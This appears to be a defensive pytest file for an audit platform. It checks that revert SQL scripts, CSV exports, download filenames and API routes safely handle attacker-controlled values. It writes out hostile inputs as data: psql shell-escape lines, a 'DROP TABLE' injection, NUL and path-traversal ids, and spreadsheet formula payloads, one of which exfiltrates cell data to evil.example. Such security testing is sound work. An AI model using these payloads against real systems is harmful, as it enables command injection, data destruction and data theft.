"""Hostile values from the trail, rendered: a revert script run with real psql, CSV exports,
download names, ids with a slash in API and Explorer paths, times out of range.

The values come from where an attacker can put them: the transaction context a service sets
from an HTTP request (request id, actor, job, reason), and the rows and names of the source
database, captured, enriched and indexed by the platform's own code.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote, unquote

import psycopg
import pytest
from fastapi.testclient import TestClient

from audit_platform import platform_db
from audit_platform.api.main import create_app
from audit_platform.api_keys import create_key
from audit_platform.policy import SourcePolicy
from audit_platform.query.revert import plan_revert
from audit_platform.record import AuditRecord
from audit_platform.settings import ApiSettings, Settings
from audit_platform_tests.capture_support import capture_enrich_index, make_source

PSQL = "/usr/bin/psql"


def escape(marker: Path, field: str) -> str:
    """A value that, pasted raw into a script, leaves a comment, a literal, an identifier or a
    dollar quote and runs a psql shell command creating ``marker``."""
    touch = f"\\! touch {marker.name}"  # relative: psql runs in the marker's folder
    return (
        f"{field}\n{touch}\n\r{touch}\r*/ $$ $revert$ '; DROP TABLE canary; -- \" "
        f"\u2028{touch}\u2029 end"
    )


def name(marker: Path, field: str) -> str:
    """A hostile table or column name: short, as PostgreSQL cuts names at 63 bytes."""
    return f"{field}\n\\! touch {marker.name}\r*/$$'\"\u2028"


@pytest.fixture
def hostile(servers, pg_database, es, tmp_path):
    marker = tmp_path / "PWNED"
    env = f"hr_{uuid.uuid4().hex[:8]}"
    table = name(marker, "tbl")
    key_col, note, secret, dropped = (name(marker, c) for c in ("k", "note", "secret", "gone"))
    ddl = (
        f"CREATE TABLE canary (x int);"
        f"CREATE TABLE {_id(table)} ({_id(key_col)} text PRIMARY KEY, {_id(note)} text, "
        f"{_id(secret)} text, {_id(dropped)} text, plain text);"
        f"ALTER TABLE {_id(table)} REPLICA IDENTITY FULL;"
        f"CREATE TABLE slashed (id text PRIMARY KEY, v text);"
        f"ALTER TABLE slashed REPLICA IDENTITY FULL;"
    )
    policy = SourcePolicy.model_validate(
        {
            "source": "hostile",
            "version": 1,
            "tables": {
                f"public.{table}": {"mask": [secret], "exclude": [dropped]},
                "public.slashed": {},
            },
        }
    )
    source = make_source(pg_database, tmp_path, ddl, policy, env=env)
    rows = [escape(marker, f"row{i}") for i in range(3)]
    with psycopg.connect(pg_database, autocommit=True) as conn:
        for row in rows[:2]:
            conn.execute(
                f"INSERT INTO {_id(table)} VALUES (%s, %s, 's', 'd', 'p')",
                (row, escape(marker, "value")),
            )
        conn.execute("INSERT INTO slashed VALUES ('a/b', 'x'), ('a/b/history', 'y')")
    with psycopg.connect(servers.pg_url, autocommit=True) as state:
        platform_db.install(state, Settings().resources_dir / "sql")
        capture_enrich_index(source, state, es, grace=timedelta(0))
        key = create_key(state, env, "hostile").secret
        with TestClient(create_app(Settings(env=env, api=ApiSettings(key_cache_seconds=0)))) as api:
            api.headers["X-API-Key"] = key
            # The test's source is in no environment file: its plan masks and excludes as
            # the test's policy says.
            api.app.state.services.policies = {"hostile": policy}
            yield Hostile(
                pg_database,
                api,
                key,
                marker,
                table,
                key_col,
                note,
                secret,
                rows,
                sync=lambda: capture_enrich_index(source, state, es, grace=timedelta(0)),
            )
    for index in es.indices.get(index=f"audit-{env}-*", expand_wildcards="all"):
        es.indices.delete(index=index)
    es.indices.delete_index_template(name=f"audit-{env}")


@dataclass
class Hostile:
    """The captured source, the API over it, and the hostile names its table has."""

    url: str
    api: TestClient
    key: str
    marker: Path
    table: str
    key_col: str
    note: str
    secret: str
    rows: list[str]
    sync: Callable[[], int]

    def in_context(self, context: dict, *statements: tuple[str, tuple]) -> None:
        with psycopg.connect(self.url) as conn:
            conn.execute("SELECT audit.set_context(%s::jsonb)", (json.dumps(context),))
            for statement, params in statements:
                conn.execute(statement, params)

    def snapshot(self) -> list[tuple]:
        with psycopg.connect(self.url) as conn:
            return conn.execute(f"SELECT * FROM {_id(self.table)} ORDER BY 1").fetchall()

    def sign_in(self) -> None:
        reply = self.api.post(
            "/ui/login", data={"key": self.key, "next": "/ui/"}, follow_redirects=False
        )
        assert reply.status_code == 303, reply.text


def _id(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def psql(url: str, script: str, tmp_path: Path) -> subprocess.CompletedProcess:
    """``psql -f`` as an operator runs a plan: the shell commands it would run are real."""
    path = tmp_path / "plan.sql"
    path.write_text(script)
    return subprocess.run(
        [PSQL, "-X", "-v", "ON_ERROR_STOP=1", "-d", url, "-f", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )


#: What psql prints for a plan that ran as written: the transaction, its settings, the block.
ONLY_THE_PLAN = ["BEGIN", "SET", "SET", "SET", "SET", "SET", "DO", "COMMIT"]


def _break_the_trail(h: Hostile) -> dict:
    """One hostile request: an update, a delete and an insert of rows with hostile keys and
    values, under a context whose every string field is hostile; then a later change to a
    column the plan does not guard, so the plan has a conflict but still applies."""
    m = h.marker
    context = {
        "actor": {"type": "user", "id": escape(m, "actor"), "name": escape(m, "name")},
        "service": escape(m, "service"),
        "request_id": escape(m, "request"),
        "job": {"name": escape(m, "job"), "run_id": escape(m, "run")},
        "reason": escape(m, "reason"),
    }
    t, k, note, secret = _id(h.table), _id(h.key_col), _id(h.note), _id(h.secret)
    h.in_context(
        context,
        (
            f"UPDATE {t} SET {note} = %s, {secret} = 's2' WHERE {k} = %s",
            (escape(m, "new value $revert_1$"), h.rows[0]),
        ),
        (f"DELETE FROM {t} WHERE {k} = %s", (h.rows[1],)),
        (f"INSERT INTO {t} ({k}, {note}) VALUES (%s, %s)", (h.rows[2], escape(m, "ins"))),
    )
    h.in_context(
        {"actor": {"type": "user", "id": "later"}},
        (f"UPDATE {t} SET plain = 'later' WHERE {k} = %s", (h.rows[0],)),
    )
    h.sync()
    return context


def test_a_revert_script_runs_only_its_guarded_statements_whatever_the_trail_holds(
    hostile, tmp_path
):
    h = hostile
    before = h.snapshot()
    context = _break_the_trail(h)
    after_break = h.snapshot()
    # Row 0 back to its note (its masked secret and the later change stay), row 1 back without
    # its masked and excluded columns, row 2 gone.
    (row0, row1) = before
    expected = [(row0[0], row0[1], "s2", row0[3], "later"), (*row1[:2], None, None, row1[4])]
    assert after_break != expected
    since = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    paths = {
        "request": f"/v1/requests/{quote(context['request_id'], safe='')}/revert",
        "actor": f"/v1/actors/{quote(context['actor']['id'], safe='')}/revert?since={quote(since)}",
        "job": f"/v1/jobs/{quote(context['job']['name'], safe='')}/runs/"
        f"{quote(context['job']['run_id'], safe='')}/revert",
    }
    for what, path in paths.items():
        plan = h.api.get(path)
        assert plan.status_code == 200, (what, plan.text)
        kinds = sorted(c["kind"] for c in plan.json()["conflicts"])
        assert kinds == ["excluded", "later_change", "masked", "masked"], what
        sep = "&" if "?" in path else "?"
        download = h.api.get(f"{path}{sep}format=sql")
        assert download.status_code == 200, (what, download.text)
        script = download.text
        ran = psql(h.url, script, tmp_path)
        assert ran.returncode == 0, (what, ran.stderr)
        assert ran.stdout.split() == ONLY_THE_PLAN, (what, ran.stdout)
        assert not h.marker.exists(), what
        assert h.snapshot() == expected, what  # the plan, exactly, and nothing else
        with psycopg.connect(h.url) as conn:
            assert conn.execute("SELECT count(*) FROM canary").fetchone() == (0,)
        _restore(h, after_break)  # the broken state again, for the next form of the plan


def _restore(h: Hostile, rows: list[tuple]) -> None:
    """The table back to ``rows`` (test plumbing: never captured, the test syncs no more)."""
    with psycopg.connect(h.url) as conn:
        conn.execute(f"DELETE FROM {_id(h.table)}")
        with conn.cursor() as cursor:
            cursor.executemany(f"INSERT INTO {_id(h.table)} VALUES (%s, %s, %s, %s, %s)", rows)


def test_a_plan_of_ids_holding_nul_and_line_breaks_is_one_script_psql_runs_as_written(
    pg_database, tmp_path
):
    """NUL never reaches a plan through the API (a 422), but a plan made by other code must
    not break either: every comment stays one line and holds no NUL."""
    marker = tmp_path / "PWNED"
    with psycopg.connect(pg_database, autocommit=True) as conn:
        conn.execute("CREATE TABLE t (id int PRIMARY KEY, v text); INSERT INTO t VALUES (1, 'b')")
    hostile_id = "a\x00" + escape(marker, "id") + "\x85\u2028\u202e\ufeff"
    record = AuditRecord.model_validate(
        {
            "id": f"dev:shop:{escape(marker, 'rec')}:0",
            "@timestamp": datetime.now(UTC),
            "env": "dev",
            "source": {"service": "shop", "database": "shop"},
            "table": {"schema": "public", "name": "t"},
            "operation": "update",
            "event": {"action": "update", "type": ["change"]},
            "object_id": "1",
            "changed_columns": ["v"],
            "before": {"id": "1", "v": "a"},
            "after": {"id": "1", "v": "b"},
            "values_text": "",
            "context": None,
            "user": {},
            "service": {},
            "trace": {},
            "client": {},
            "attribution": {"status": "unattributed"},
            "transaction": {"xid": 1, "commit_lsn": "0/1", "lsn": 1, "change_index": 0},
            "row": {"key": ["id"], "types": {"id": "integer", "v": "text"}},
            "policy_version": "1",
            "ingested_at": datetime.now(UTC),
        }
    )
    plan = plan_revert(
        {"request_id": hostile_id, "actor": hostile_id},
        [record],
        {},
        generated_at=datetime.now(UTC),
    )
    script = plan.sql_file()
    assert "\x00" not in script
    comments = [line for line in script.split("\n") if line.lstrip().startswith("--")]
    assert all(line.isprintable() for line in comments), comments
    ran = psql(pg_database, script, tmp_path)
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout.split() == ONLY_THE_PLAN, ran.stdout
    assert not marker.exists()
    with psycopg.connect(pg_database) as conn:
        assert conn.execute("SELECT v FROM t").fetchone() == ("a",)


# --- ids with a slash ------------------------------------------------------------------------


def test_ids_with_a_slash_open_in_the_api_and_the_explorer(hostile):
    h = hostile
    h.in_context(
        {"actor": {"type": "user", "id": "team/alice"}, "request_id": "req/1"},
        ("UPDATE slashed SET v = 'changed' WHERE id = 'a/b'", ()),
    )
    h.sync()
    api = h.api
    for object_id, value in (("a/b", "changed"), ("a/b/history", "y")):
        history = api.get(f"/v1/objects/hostile/public.slashed/{object_id}/history")
        assert history.status_code == 200, history.text
        assert {c["event"]["object_id"] for c in history.json()["changes"]} == {object_id}
        state = api.get(f"/v1/objects/hostile/public.slashed/{quote(object_id, safe='')}/state")
        assert state.status_code == 200 and state.json()["row"]["v"] == value, state.text
    request = api.get(f"/v1/requests/{quote('req/1', safe='')}")
    assert request.status_code == 200, request.text
    assert [c["object_id"] for t in request.json()["transactions"] for c in t["changes"]] == ["a/b"]
    plan = api.get("/v1/requests/req/1/revert")  # unencoded works too
    assert plan.status_code == 200 and plan.json()["of"] == {"request_id": "req/1"}
    activity = api.get("/v1/actors/team%2Falice/activity")
    assert activity.status_code == 200 and activity.json()["stats"]["total"] == 1, activity.text
    since = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    actor_plan = api.get("/v1/actors/team%2Falice/revert", params={"since": since})
    assert actor_plan.status_code == 200 and actor_plan.json()["changes"] == 1

    h.sign_in()
    page = api.get("/ui/objects/hostile/public.slashed/a%2Fb")
    assert page.status_code == 200 and "changed" in page.text
    record_page = api.get(f"/ui/requests/{quote('req/1', safe='')}")
    assert record_page.status_code == 200, record_page.text
    # The page's own links lead to the object, the actor and the plan's download.
    links = {
        "/ui/objects/hostile/public.slashed/a%2Fb",
        "/ui/actors/team%2Falice",
        "/ui/requests/req%2F1/revert.sql",
    }
    for link in links:
        assert f'href="{link}"' in record_page.text, link
        opened = api.get(link)
        assert opened.status_code == 200, (link, opened.text[:300])
    assert "team/alice" in api.get("/ui/actors/team%2Falice").text


# --- NUL, and line breaks in ids -------------------------------------------------------------


NUL_PATHS = [
    "/v1/requests/a%00b",
    "/v1/requests/a%00b/revert",
    "/v1/jobs/a%00b/runs/1",
    "/v1/jobs/j/runs/a%00b/revert",
    "/v1/actors/a%00b/activity",
    "/v1/actors/a%00b/revert?since=2026-01-01T00:00:00Z",
    "/v1/objects/hostile/public.slashed/a%00b/history",
    "/v1/objects/hostile/public.slashed/a%00b/state",
    "/v1/events?request_id=a%00b",
    "/v1/events?actor_id=a%00b",
    "/v1/export?object_id=a%00b",
    "/v1/events?query=actor:a%00b",
    "/ui/requests/a%00b",
    "/ui/requests/a%00b/revert.sql",
    "/ui/actors/a%00b",
    "/ui/objects/hostile/public.slashed/a%00b",
    "/ui/search?q=actor:a%00b",
]


def test_a_nul_in_an_id_is_a_422_that_says_so(hostile):
    hostile.sign_in()
    for path in NUL_PATHS:
        reply = hostile.api.get(path)
        assert reply.status_code == 422, (path, reply.text)
        assert "NUL character (U+0000)" in reply.text, path


def test_ids_with_line_breaks_reach_their_routes(hostile):
    h = hostile
    h.in_context(
        {"actor": {"type": "user", "id": "a\nb"}, "request_id": "r\r\n1"},
        ("UPDATE slashed SET v = 'changed' WHERE id = 'a/b'", ()),
    )
    h.sync()
    assert h.api.get("/v1/requests/r%0D%0A1").json()["transactions"]
    assert h.api.get("/v1/requests/r%0D%0A1/revert").json()["changes"] == 1
    assert h.api.get("/v1/actors/a%0Ab/activity").json()["stats"]["total"] == 1


# --- download names ----------------------------------------------------------------------------

NAMES = ['say "hi"', "日本語/ü", "line\nbreak\r\n", "tab\there; x=y", "C:\\evil\\..\\name"]


def test_a_download_is_named_by_rfc_6266_whatever_the_id_holds(hostile):
    h = hostile
    for request_id in NAMES:
        h.in_context(
            {"actor": {"type": "user", "id": "n"}, "request_id": request_id},
            ("UPDATE slashed SET v = %s WHERE id = 'a/b'", (request_id,)),
        )
    h.sync()
    h.sign_in()
    for request_id in NAMES:
        segment = quote(request_id, safe="")
        for path in (
            f"/v1/requests/{segment}/revert?format=sql",
            f"/ui/requests/{segment}/revert.sql",
        ):
            reply = h.api.get(path)
            assert reply.status_code == 200, (path, reply.text)
            value = reply.headers["content-disposition"]
            value.encode("ascii")  # raises if not
            fallback = value.split('filename="', 1)[1].split('"', 1)[0]
            assert fallback.isprintable() and not set(fallback) & set('/\\"')
            exact = unquote(value.split("filename*=UTF-8''", 1)[1])
            # The exact name keeps every character a file name can hold.
            kept = "".join(c for c in request_id if c.isprintable() and c not in '/\\:*?"<>|')
            assert exact.startswith("revert-") and exact.endswith(".sql"), exact
            assert exact.replace("_", "") == f"revert-{kept}.sql".replace("_", ""), exact
    export = h.api.get("/v1/export")
    assert export.headers["content-disposition"].startswith('attachment; filename="audit-')


# --- CSV ---------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_text_and_ndjson_stays_exact(hostile):
    h = hostile
    for number, formula in enumerate(FORMULAS):
        context = {
            "actor": {"type": "user", "id": formula, "name": formula},
            "request_id": f"{formula}{number}",
        }
        h.in_context(context, ("UPDATE slashed SET v = %s WHERE id = 'a/b'", (formula,)))
    h.sync()
    text = h.api.get(
        "/v1/export", params={"format": "csv", "table": "slashed", "operation": "update"}
    ).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS)
    for row, (number, formula) in zip(rows, enumerate(FORMULAS), strict=True):
        assert row["context.actor.id"] == row["context.actor.name"] == "'" + formula
        assert row["context.request_id"] == f"'{formula}{number}"
        assert json.loads(row["after"])["v"] == formula  # JSON text starts with '{'
    for line in list(csv.reader(io.StringIO(text, newline="")))[1:]:  # under the header
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
    # Every cell quoted, so a separator or a line break inside one never makes a new cell.
    assert text.startswith('"id","@timestamp"')
    exact = h.api.get(
        "/v1/export", params={"format": "ndjson", "table": "slashed", "operation": "update"}
    ).text
    found = [json.loads(line) for line in exact.splitlines()]
    assert [r["context"]["actor"]["id"] for r in found] == FORMULAS
    assert [r["context"]["request_id"] for r in found] == [
        f"{f}{n}" for n, f in enumerate(FORMULAS)
    ]


# --- times out of range ------------------------------------------------------------------------

YEAR_ONE = "0001-01-01T00:00:00+01:00"  # 0000-12-31T23:00Z: before the first representable time
OUT_OF_RANGE = [
    ("/v1/events", {"query": "since:-999999w"}),
    ("/v1/events", {"query": "since:-99999999999d"}),
    ("/v1/events", {"query": "until:-99999999999m"}),
    ("/v1/events", {"query": f"since:{YEAR_ONE}"}),
    ("/v1/events", {"since": YEAR_ONE}),
    ("/v1/events", {"until": "9999-12-31T23:59:59-01:00"}),
    ("/v1/stats", {"since": YEAR_ONE}),
    ("/v1/export", {"query": "since:-999999w"}),
    ("/v1/actors/ada/activity", {"since": YEAR_ONE}),
    ("/v1/actors/ada/revert", {"since": YEAR_ONE}),
    ("/v1/actors/ada/revert", {"since": "2026-01-01T00:00:00Z", "until": YEAR_ONE}),
    ("/v1/objects/hostile/public.slashed/a%2Fb/state", {"at": YEAR_ONE}),
    ("/ui/search", {"q": "since:-999999w"}),
    ("/ui/search", {"q": "since:-99999999999d"}),
    ("/ui/search", {"q": f"until:{YEAR_ONE}"}),
    ("/ui/objects/hostile/public.slashed/a%2Fb", {"at": YEAR_ONE}),
]


def test_a_time_out_of_range_is_a_422_that_says_which_times_are_accepted(hostile):
    hostile.sign_in()
    for path, params in OUT_OF_RANGE:
        reply = hostile.api.get(path, params=params)
        assert reply.status_code == 422, (path, params, reply.status_code, reply.text[:300])
        assert "0001-01-01" in reply.text and "9999-12-31" in reply.text, (path, params, reply.text)
    # A time that is valid but so early that the default range before it is not: the reason.
    early = hostile.api.get("/v1/events", params={"until": "0001-01-02T00:00:00Z"})
    assert early.status_code == 422 and "is before 1970-01-01" in early.text, early.text
